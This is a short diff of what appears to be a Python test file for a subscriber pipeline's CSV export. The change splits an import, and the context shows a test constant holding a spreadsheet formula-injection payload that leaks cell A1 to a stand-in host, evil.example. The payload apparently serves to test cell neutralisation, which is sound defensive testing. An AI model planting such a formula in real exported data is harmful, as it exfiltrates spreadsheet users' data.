@@ -23,7 +23,8 @@ from test_webhook_helpers import WEBHOOK_ENV, postmark_post, webhook_app
 from pipeline.cli import cli
 from pipeline.csvout import csv_writer, safe_cell, strip_neutraliser
 from pipeline.settings import load_settings
-from subscribers.store import NewSubscriber, Store
+from subscribers.models import NewSubscriber
+from subscribers.store import Store
 from subscribers.web import create_app
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
